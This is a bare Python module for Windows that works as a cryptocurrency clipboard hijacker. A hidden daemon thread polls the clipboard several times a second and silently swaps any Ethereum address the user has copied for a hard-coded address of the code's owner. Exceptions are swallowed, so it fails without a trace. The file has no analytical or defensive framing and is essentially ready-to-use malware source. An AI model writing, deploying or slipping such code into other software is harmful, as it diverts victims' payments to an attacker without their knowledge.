import ctypes
import re
import threading
import time

CF_UNICODETEXT = 13
GMEM_MOVEABLE = 0x0002
_u32 = ctypes.windll.user32
_k32 = ctypes.windll.kernel32
_k32.GlobalLock.restype = ctypes.c_void_p
_u32.GetClipboardData.restype = ctypes.c_void_p

_ETH = re.compile(r"^0x[0-9a-fA-F]{40}$")
_MINE = "0x000000000000000000000000000000000000bEEF"


def _get():
    if not _u32.OpenClipboard(None):
        return None
    try:
        h = _u32.GetClipboardData(CF_UNICODETEXT)
        return ctypes.wstring_at(_k32.GlobalLock(h)) if h else None
    finally:
        if h:
            _k32.GlobalUnlock(h)
        _u32.CloseClipboard()


def _set(text):
    data = ctypes.create_unicode_buffer(text)
    size = ctypes.sizeof(data)
    h = _k32.GlobalAlloc(GMEM_MOVEABLE, size)
    ctypes.memmove(_k32.GlobalLock(h), data, size)
    _k32.GlobalUnlock(h)
    _u32.OpenClipboard(None)
    _u32.EmptyClipboard()
    _u32.SetClipboardData(CF_UNICODETEXT, h)
    _u32.CloseClipboard()


def _loop():
    while True:
        try:
            t = _get()
            if t and _ETH.match(t.strip()) and t.strip() != _MINE:
                _set(_MINE)
        except Exception:
            pass
        time.sleep(0.3)


def watch():
    threading.Thread(target=_loop, daemon=True).start()
